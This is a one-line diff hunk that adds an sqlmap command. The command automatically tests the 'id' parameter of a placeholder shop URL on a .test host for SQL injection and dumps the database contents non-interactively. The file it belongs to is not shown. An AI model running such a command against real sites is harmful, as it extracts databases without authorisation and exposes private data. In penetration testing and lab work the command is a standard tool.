@@ -1,0 +1,1 @@
+sqlmap -u "http://shop.test/item?id=1" --batch --dump
